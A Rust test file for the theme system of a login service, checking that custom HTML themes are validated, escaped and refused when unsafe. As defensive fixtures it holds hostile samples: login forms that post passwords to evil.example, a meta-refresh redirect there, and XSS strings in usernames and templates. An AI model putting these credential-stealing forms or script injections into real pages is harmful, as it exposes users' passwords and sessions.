//! Loading and drawing of valid and invalid themes.

use super::sample;
use crate::pages::mail::Mail;
use crate::pages::{Account, AccountSection, Consent, ErrorPage, Login, LoginProblem};
use crate::themes::*;

fn source(name: &str, files: &[(&str, &str)]) -> Source {
    let manifest = ("theme.toml", "contract = 1\nproduct_name = \"Acme\"");
    Source {
        name: name.to_owned(),
        files: std::iter::once(&manifest)
            .chain(files)
            .map(|(file, text)| ((*file).to_owned(), Cow::Owned(text.as_bytes().to_vec())))
            .collect(),
        languages: BTreeMap::new(),
    }
}

fn default_theme() -> Arc<Theme> {
    let source = built_in::sources().next().unwrap();
    Arc::new(Theme::load(&source, "/id", None).unwrap())
}

fn load(files: &[(&str, &str)]) -> Result<Theme, Vec<String>> {
    Theme::load(&source("acme", files), "/id", Some(default_theme()))
        .map_err(|findings| findings.iter().map(ToString::to_string).collect())
}

fn english() -> &'static Locale {
    Locale::english()
}

/// The findings that refuse, one line each.
fn refusals(theme: &Theme) -> Vec<String> {
    let refused = theme
        .findings()
        .iter()
        .filter(|finding| finding.severity == Severity::Refused);
    refused.map(ToString::to_string).collect()
}

const FORM: &str = "<!DOCTYPE html><html lang=\"{{ lang }}\" dir=\"{{ dir }}\"><head>{{ head }}</head><body>\
    {% if takes_password %}<form method=\"post\" action=\"{{ action }}\">{{ hidden }}<input name=\"username\" \
    value=\"{{ username }}\"><input name=\"password\" type=\"password\"><button>Go</button></form>{% endif %}\
    {{ choice }}{{ providers }}</body></html>";

#[test]
fn a_theme_may_lay_out_the_raw_fields_by_hand() {
    let theme = load(&[("login.html", FORM)]).unwrap();
    assert_eq!(refusals(&theme), Vec::<String>::new());
    let drawn = theme.draw(&Login::sample(), english());
    assert!(drawn.fault.is_none());
    assert!(drawn.html.contains("<button>Go</button>") && drawn.html.contains("b1x0Jm5vYQ"));
    let other = theme.draw(&Consent::sample(), english()).html;
    assert!(other.contains("Acme") && other.contains("card page-consent"));
}

#[test]
fn a_page_without_its_form_is_left_to_the_default_theme() {
    let theme = load(&[("login.html", "<!DOCTYPE html><p>Welcome</p>")]).unwrap();
    let refused = refusals(&theme).join("\n");
    assert!(
        refused.contains("login.html: a form is missing or incomplete"),
        "{refused}"
    );
    let drawn = theme.draw(&Login::sample(), english());
    assert!(drawn.html.contains("name=\"password\"") && !drawn.html.contains("Welcome"));
    assert!(drawn.fault.is_none(), "it was said when the theme was read");
}

#[test]
fn a_page_that_fails_for_some_people_only_falls_back_for_them_and_is_told_once() {
    let source = FORM.replace(
        "{{ hidden }}",
        "{% if username != \"mallory\" %}{{ hidden }}{% endif %}",
    );
    let theme = load(&[("login.html", &source)]).unwrap();
    assert_eq!(refusals(&theme), Vec::<String>::new());
    let mallory = Login {
        username: "mallory".to_owned(),
        ..Login::sample()
    };
    let first = theme.draw(&mallory, english());
    assert!(first.html.contains("card page-login") && first.fault.is_some());
    assert!(theme.draw(&mallory, english()).fault.is_none());
    assert!(
        theme
            .draw(&Login::sample(), english())
            .html
            .contains("<button>Go</button>")
    );
}

/// A template can depend on its reader and the language, and the samples cover only some of both.
#[test]
fn a_page_that_leads_some_people_elsewhere_is_not_shown_to_them() {
    let whole = format!("{}</body></html>", FORM.split("</body>").next().unwrap());
    for evil in [
        "<form method=\"post\" action=\"https://evil.example\">{{ hidden }}<input name=\"password\"></form>",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
        "<template><a href=\"https://evil.example\"></a>",
    ] {
        for condition in ["lang == \"de\"", "client_name == \"Radio\""] {
            let evil = format!("<body>{{% if {condition} %}}{evil}{{% endif %}}");
            let theme = load(&[("login.html", &whole.replace("<body>", &evil))]).unwrap();
            assert_eq!(refusals(&theme), Vec::<String>::new());
            let german = theme.locale(Some("de"), None);
            let radio = Login {
                client_name: "Radio".to_owned(),
                ..Login::sample()
            };
            let drawn = theme.draw(&radio, german);
            assert!(!drawn.html.contains("evil") && drawn.html.contains("card page-login"));
            assert_eq!(drawn.fault.unwrap().place, "login.html");
            let others = theme.draw(&Login::sample(), english());
            assert!(others.html.contains("<button>Go</button>") && others.fault.is_none());
        }
    }
}

#[test]
fn a_page_that_has_no_form_is_laid_out_by_hand_too() {
    let theme = load(&[("login.html", FORM)]).unwrap();
    let page = Login {
        takes_password: false,
        problem: Some(LoginProblem::NoWay),
        ..Login::sample()
    };
    let drawn = theme.draw(&page, english());
    assert!(
        drawn.fault.is_none() && !drawn.html.contains("card page-login"),
        "{drawn:?}"
    );
}

#[test]
fn a_broken_layout_takes_only_the_pages_that_use_it() {
    let theme = load(&[("layout.html", "{% if %}"), ("login.html", FORM)]).unwrap();
    assert!(refusals(&theme)[0].starts_with("layout.html line 1:"));
    assert!(
        theme
            .draw(&Login::sample(), english())
            .html
            .contains("<button>Go</button>")
    );
    let consent = theme.draw(&Consent::sample(), english()).html;
    assert!(
        consent.contains("<bdi class=\"brand-name\">idsvc</bdi>"),
        "the default theme stands in"
    );
}

#[test]
fn a_form_that_leads_elsewhere_refuses_its_page() {
    let evil = FORM.replace(
        "{{ choice }}",
        "{{ choice }}<form action=\"https://evil.example\"><input name=p></form>",
    );
    let theme = load(&[("login.html", &evil)]).unwrap();
    assert!(refusals(&theme)[0].contains("https://evil.example"));
    assert!(!theme.draw(&Login::sample(), english()).html.contains("evil"));
}

#[test]
fn what_the_browser_blocks_is_a_fault_and_the_page_is_used() {
    let inline = FORM.replace(
        "{{ choice }}",
        "{{ choice }}<script>alert(1)</script><p onclick=\"x()\" style=\"a\">",
    );
    let theme = load(&[("login.html", &inline)]).unwrap();
    assert_eq!(refusals(&theme), Vec::<String>::new());
    let said: Vec<_> = theme.findings().iter().map(ToString::to_string).collect();
    for part in ["an inline script", "onclick", "style=\"a\""] {
        assert!(said.iter().any(|line| line.contains(part)), "{part}: {said:?}");
    }
    assert!(
        theme
            .draw(&Login::sample(), english())
            .html
            .contains("<button>Go</button>")
    );
}

#[test]
fn a_theme_that_cannot_be_read_is_refused_as_a_whole() {
    for (files, said) in [
        (&[("theme.toml", "contract = 2")][..], "contract 2"),
        (
            &[("theme.toml", "contract = 1\nlogo = \"../secret\"")][..],
            "no image of that name",
        ),
        (
            &[("theme.toml", "contract = 1\nlogo = \"theme.css\"")][..],
            "no image of that name",
        ),
        (
            &[("logo.png", "<script>")][..],
            "logo.png: the content is not image/png",
        ),
        (&[("locales/xx_y.toml", "")][..], "no language tag"),
        (
            &[("locales/nl.toml", "[texts]\nsign_inn = \"x\"")][..],
            "locales/nl.toml line 2",
        ),
    ] {
        let found = load(files).unwrap_err().join("\n");
        assert!(found.contains(said), "{said}: {found}");
    }
    let nothing = Source {
        name: "acme".to_owned(),
        ..Source::default()
    };
    let found = Theme::load(&nothing, "", Some(default_theme())).unwrap_err();
    assert!(found[0].to_string().contains("theme.toml: the file is missing"));
}

#[test]
fn a_theme_brings_words_and_languages() {
    let manifest = "contract = 1\n[texts.de]\nsign_in = \"Einloggen\"\n[scopes.en]\n\"notes.write\" = \"Write\"\n\
                    [[links]]\nhref = \"https://acme.example/privacy\"\ntext = { en = \"Privacy\", de = \"Datenschutz\" }";
    let theme = load(&[
        ("theme.toml", manifest),
        ("locales/nl.toml", "[texts]\nsign_in = \"Aanmelden\""),
        (
            "locales/de.toml",
            "[texts]\nsign_in = \"weaker\"\npassword = \"Kennwort\"",
        ),
    ])
    .unwrap();
    let tags: Vec<_> = theme.locales().iter().map(Locale::tag).collect();
    assert_eq!(tags, ["en", "de", "fr", "es", "ja", "ar", "nl"]);
    let german = theme.locale(Some("de-AT"), None);
    assert_eq!(
        (german.text().sign_in, german.text().password),
        ("Einloggen", "Kennwort")
    );
    let dutch = theme.draw(&Login::sample(), theme.locale(Some("nl"), None)).html;
    assert!(dutch.contains("<html lang=\"nl\" dir=\"ltr\">") && dutch.contains("<h1>Aanmelden</h1>"));
    assert!(dutch.contains("<a href=\"https://acme.example/privacy\">Privacy</a></footer>"));
    assert!(
        theme
            .draw(&Login::sample(), german)
            .html
            .contains(">Datenschutz</a>")
    );
    assert_eq!(theme.locale(None, None).scope("notes.write"), Some("Write"));
    let note = &theme.findings()[0];
    assert_eq!(
        (note.severity, note.place.as_str()),
        (Severity::Note, "language nl")
    );
}

#[test]
fn whoever_checks_a_theme_hears_whose_scripts_it_lets_in() {
    let manifest = "contract = 1\nproduct_name = \"Acme\"\n[csp]\nscript = [\"https://cdn.example.com\"]";
    let theme = load(&[("theme.toml", manifest)]).unwrap();
    let notes: Vec<String> = theme.findings().iter().map(ToString::to_string).collect();
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert!(
        notes[0].contains("https://cdn.example.com") && notes[0].contains("passwords"),
        "{notes:?}"
    );
    assert_eq!(theme.findings()[0].severity, Severity::Note);
}

#[test]
fn hostile_input_stays_text_in_a_template_too() {
    let theme = load(&[("login.html", FORM)]).unwrap();
    let page = Login {
        username: "\"><script>alert(1)</script>".to_owned(),
        client_name: "<img src=x onerror=y>".to_owned(),
        problem: Some(LoginProblem::Credentials),
        ..Login::sample()
    };
    let html = theme.draw(&page, english()).html;
    assert!(html.contains("&lt;script&gt;") && !html.contains("<script>") && !html.contains("<img src=x"));
}

#[test]
fn a_changed_file_changes_the_addresses() {
    let version = |css: &str| load(&[("theme.css", css)]).unwrap().version().to_owned();
    assert_eq!(version("a{}"), version("a{}"));
    assert_ne!(version("a{}"), version("b{}"));
    let theme = load(&[("theme.css", "a{}")]).unwrap();
    assert!(theme.style_url().starts_with("/id/theme/acme/"));
    assert!(theme.file("theme.toml").is_none() && theme.file("login.html").is_none());
}

#[test]
fn colours_that_cannot_be_read_are_told() {
    let theme = load(&[("theme.toml", "contract = 1\n[light]\nmuted = \"#dddddd\"")]).unwrap();
    let said = theme.findings()[0].to_string();
    assert!(
        said.starts_with("theme.toml: light.muted on light.surface has a contrast of 1.36"),
        "{said}"
    );
}

#[test]
fn an_accent_makes_the_colours_and_a_picture_lies_behind_the_page() {
    let manifest =
        "contract = 1\naccent = \"#d97706\"\npicture = \"hills.svg\"\n[dark]\nground = \"#000000\"";
    let picture = ("hills.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
    let theme = load(&[("theme.toml", manifest), picture]).unwrap();
    assert_eq!(theme.findings(), []);
    let style = String::from_utf8(theme.file("theme.css").unwrap().bytes.to_vec()).unwrap();
    assert!(style.contains("url(\"hills.svg\")") && style.contains("--ground:#000000;"));
    assert!(
        !style.contains(
            &default_theme()
                .manifest
                .tokens
                .light
                .colour("accent")
                .unwrap()
                .to_string()
        )
    );
    let missing = load(&[("theme.toml", manifest)]).unwrap_err();
    assert_eq!(
        missing,
        ["theme.toml: picture = \"hills.svg\": the theme has no image of that name"]
    );
}

#[test]
fn every_state_of_every_page_can_be_drawn_by_one_layout() {
    let layout = "<!DOCTYPE html><html lang=\"{{ lang }}\" dir=\"{{ dir }}\"><head>{{ head }}</head>\
        <body class=\"{{ page }}\"><main>{{ content }}</main>{{ footer }}</body></html>";
    let theme = load(&[("layout.html", layout)]).unwrap();
    assert_eq!(theme.findings(), []);
    for page in ErrorPage::samples() {
        assert!(
            theme
                .draw(&page, english())
                .html
                .contains("<body class=\"error\">")
        );
    }
}

/// The words in backquotes in the first cells of the tables under a heading of the themes' README.
fn contract(heading: &str) -> BTreeSet<String> {
    let text = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/themes/README.md"));
    let rest = text.split_once(&format!("\n{heading}\n")).unwrap().1;
    let section = rest.split("\n#").next().unwrap();
    let first_cells = section
        .lines()
        .filter_map(|line| line.strip_prefix("| ")?.split(" | ").next());
    first_cells
        .flat_map(|cell| cell.split('`').skip(1).step_by(2))
        .map(ToOwned::to_owned)
        .collect()
}

fn slot_names(words: &BTreeSet<String>) -> BTreeSet<&str> {
    words
        .iter()
        .filter_map(|word| word.strip_prefix("{{ ")?.strip_suffix(" }}"))
        .collect()
}

#[test]
fn the_contract_names_every_class_of_the_pages_and_no_other() {
    let manifest = "contract = 1\nlogo = \"logo.svg\"\n[[links]]\nhref = \"/\"\ntext = \"x\"";
    let theme = load(&[("theme.toml", manifest), ("logo.svg", "<svg/>")]).unwrap();
    let mut classes = BTreeSet::new();
    for sample in sample::all() {
        let html = sample.page.draw(&theme, english()).html;
        for list in html.split(" class=\"").skip(1) {
            let list = list.split('"').next().unwrap();
            classes.extend(list.split(' ').map(|class| format!(".{class}")));
        }
    }
    let documented = contract("## Classes");
    let missing: Vec<_> = classes.difference(&documented).collect();
    let stale: Vec<_> = documented.difference(&classes).collect();
    assert!(
        missing.is_empty() && stale.is_empty(),
        "missing {missing:?}, stale {stale:?}"
    );
}

#[test]
fn every_built_in_theme_styles_every_class() {
    for source in built_in::sources() {
        let theme = Theme::load(&source, "/id", Some(default_theme())).unwrap();
        let style = String::from_utf8(theme.file("theme.css").unwrap().bytes.to_vec()).unwrap();
        let is_styled = |class: &str| {
            style.match_indices(class).any(|(at, _)| {
                let next = style[at + class.len()..].chars().next();
                next.is_some_and(|next| !next.is_ascii_alphanumeric() && next != '-')
            })
        };
        for class in contract("## Classes")
            .iter()
            .filter(|class| !class.starts_with(".page-"))
        {
            assert!(is_styled(class), "{}: {class}", source.name);
        }
        let own = source
            .files
            .get("theme.css")
            .map(|css| String::from_utf8_lossy(css));
        if let Some(own) = own.filter(|own| own.contains("max-inline-size")) {
            for page in [".page-account", ".page-home", ".page-tokens"] {
                assert!(own.contains(page), "{}: {page} is wide", source.name);
            }
        }
    }
}

#[test]
fn an_account_page_is_laid_out_by_hand_or_refused() {
    let begin = "<!DOCTYPE html><html lang=\"{{ lang }}\" dir=\"{{ dir }}\"><head>{{ head }}</head><body>";
    let form = |decision: &str, inside: &str| {
        format!(
            "<form method=post action=\"{{{{ action }}}}\"><input type=hidden name=csrf value=\"{{{{ csrf }}}}\">\
             <input type=hidden name=decision value={decision}>{inside}<button>Go</button></form>"
        )
    };
    let sessions = "{% for session in sessions %}{% if session.is_current %}here{% endif %}\
        <button name=session value=\"{{ session.id }}\">{{ session.device or text.account_unknown_device }}</button>\
        {% endfor %}{% if has_other_sessions %}<button name=session value=others>x</button>{% endif %}";
    let applications = "{% for app in applications %}<ul>{% for scope in app.scopes %}<li>{{ scope.text }}</li>\
        {% endfor %}</ul><button name=client value=\"{{ app.id }}\">{{ app.name }}</button>{% endfor %}";
    let password = "<input name=username value=\"{{ account_id }}\" hidden><input name=current-password \
        type=password><input name=new-password type=password>";
    let languages = "<select name=language><option value=auto>{{ text.account_language_automatic }}</option>\
        {% for language in languages %}<option value=\"{{ language.tag }}\">{{ language.name }}</option>{% endfor %}</select>";
    let password = format!("{{% if min_length %}}{}{{% endif %}}", form("password", password));
    let applications = format!(
        "{{% if applications %}}{}{{% endif %}}",
        form("applications", applications)
    );
    let whole = [
        begin,
        &form("sessions", sessions),
        &applications,
        &password,
        &form("language", languages),
    ]
    .concat();
    let theme = load(&[("account.html", &whole)]).unwrap();
    assert_eq!(refusals(&theme), Vec::<String>::new());
    // It was written before the page had sections, and has the whole account at each address.
    let html = theme
        .draw(&Account::sample(AccountSection::Devices), english())
        .html;
    assert!(html.contains("<li>See your email address</li>") && html.contains("Acme Television"));
    let theme = load(&[("account.html", &whole.replace("name=client", "name=app"))]).unwrap();
    assert!(refusals(&theme)[0].contains("client=tv"));
}

#[test]
fn the_contract_names_every_custom_property_and_no_other() {
    let css = default_theme().manifest.tokens.css();
    let set: BTreeSet<String> = css
        .split([';', '{'])
        .filter_map(|declaration| declaration.split(':').next()?.strip_prefix("--"))
        .map(|name| format!("--{name}"))
        .collect();
    assert_eq!(contract("## Custom properties"), set);
}

#[test]
fn the_contract_names_every_slot_of_every_page_and_no_other() {
    let theme = default_theme();
    let names = |page: &dyn sample::AnyPage| -> BTreeSet<&'static str> {
        page.template_context(&theme, english()).names().collect()
    };
    let common = names(&crate::pages::dev::Home::sample());
    assert_eq!(slot_names(&contract("## Templates")), common);
    for sample in sample::all() {
        let own: BTreeSet<_> = names(&*sample.page).difference(&common).copied().collect();
        let heading = format!("### {}.html", sample.page.name());
        if !own.is_empty() {
            assert_eq!(slot_names(&contract(&heading)), own, "{heading}");
        }
    }
}

#[test]
fn the_contract_names_every_slot_and_kind_of_mail_and_no_other() {
    let text = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/themes/README.md"));
    for mail in Mail::samples() {
        let names: BTreeSet<_> = default_theme().mail_context(&mail, english()).names().collect();
        assert_eq!(slot_names(&contract("## Mails")), names);
        assert!(text.contains(&format!("`{}`", mail.kind.name())));
    }
}

#[test]
fn the_contract_names_every_filter_and_kind_of_file() {
    let text = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/themes/README.md"));
    for filter in grammar::FILTERS {
        assert!(
            text.contains(&format!("`{filter}`")) || text.contains(&format!("\\|{filter}")),
            "{filter}"
        );
    }
    let kinds = text.lines().find(|line| line.contains(".woff2")).unwrap();
    for kind in kinds.split('`').nth(1).unwrap().split(' ') {
        assert!(Media::of_name(&format!("x{kind}")).is_some(), "{kind}");
    }
}
